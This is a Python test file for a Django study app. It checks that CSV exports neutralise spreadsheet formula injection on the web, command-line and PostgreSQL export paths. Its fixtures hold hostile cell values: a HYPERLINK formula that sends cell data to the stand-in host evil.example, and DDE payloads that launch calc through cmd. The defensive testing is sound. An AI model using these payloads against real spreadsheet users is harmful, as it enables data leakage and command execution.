"""Export cells that a spreadsheet would run as formulas are neutralised (OWASP) on every export path."""
import csv
import io

import pytest
from django.core.management import call_command

from study.exports import neutralise_cell, votes_rows
from study.models import Participant, Stimulus
from tests.study.compare_data import build_study

pytestmark = pytest.mark.django_db
ATTACKS = {
    "PROLIFIC_PID": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "STUDY_ID": "+1+1",
    "SESSION_ID": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NEUTRALISED = {key: "'" + value for key, value in ATTACKS.items()}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-0.5, -0.5), (3, 3), (None, None),
])
def test_cells_starting_with_a_formula_trigger_get_a_leading_quote(value, expected):
    assert neutralise_cell(value) == expected


def _poisoned_study():
    study, _ = build_study(images=2, voters=2, models=1)
    person = Participant.objects.filter(study=study).first()
    person.external_ids = dict(ATTACKS)
    person.exclusion_reason = "-failed gold"
    person.save()
    Stimulus.objects.filter(pk=study.stimuli.first().pk).update(original_name="=cmd|' /C calc'!A0.png",
                                                                 source="@evil")
    return study, person


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def _assert_votes_neutralised(rows, person):
    mine = [row for row in rows if row["participant"] == str(person.public_id)]
    assert mine
    for row in mine:
        assert (row["prolific_pid"], row["study_id"], row["session_id"]) == (
            NEUTRALISED["PROLIFIC_PID"], NEUTRALISED["STUDY_ID"], NEUTRALISED["SESSION_ID"])
    assert "'=cmd|' /C calc'!A0.png" in {row["file"] for row in rows}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_web_download_of_votes_and_other_files_is_neutralised(client):
    study, person = _poisoned_study()
    client.force_login(study.owner)
    votes = b"".join(client.get(f"/studies/{study.slug}/export/votes.csv").streaming_content)
    _assert_votes_neutralised(_rows(votes), person)
    participants = _rows(b"".join(client.get(f"/studies/{study.slug}/export/participants.csv").streaming_content))
    assert "'-failed gold" in {row["exclusion_reason"] for row in participants}
    stimuli = _rows(b"".join(client.get(f"/studies/{study.slug}/export/stimuli.csv").streaming_content))
    assert {"'=cmd|' /C calc'!A0.png", "'@evil"} <= {row["file"] for row in stimuli} | {row["source"] for row in stimuli}
    for row in stimuli:
        assert row["valence"] == "" or not row["valence"].startswith("'")  # numbers are left alone


def test_export_study_command_is_neutralised(tmp_path):
    study, person = _poisoned_study()
    call_command("export_study", study.slug, out=tmp_path, stdout=io.StringIO())
    _assert_votes_neutralised(_rows((tmp_path / "votes.csv").read_bytes()), person)
    distributions = (tmp_path / "distributions.csv").read_text()
    assert "\n'=cmd|" in distributions
    assert "formula injection" in (tmp_path / "codebook.md").read_text()


def test_values_are_only_prefixed_so_the_original_is_recoverable():
    study, person = _poisoned_study()
    rows = [row for row in votes_rows(study) if row[0] == person.public_id]
    assert rows[0][1] == ATTACKS["PROLIFIC_PID"]  # the rows carry raw values; the CSV writer neutralises


@pytest.mark.integration
def test_postgresql_copy_path_is_neutralised():
    from tests.services import require_postgres

    require_postgres()
    from study.exports import votes_copy_stream

    study, person = _poisoned_study()
    _assert_votes_neutralised(_rows(b"".join(votes_copy_stream(study))), person)
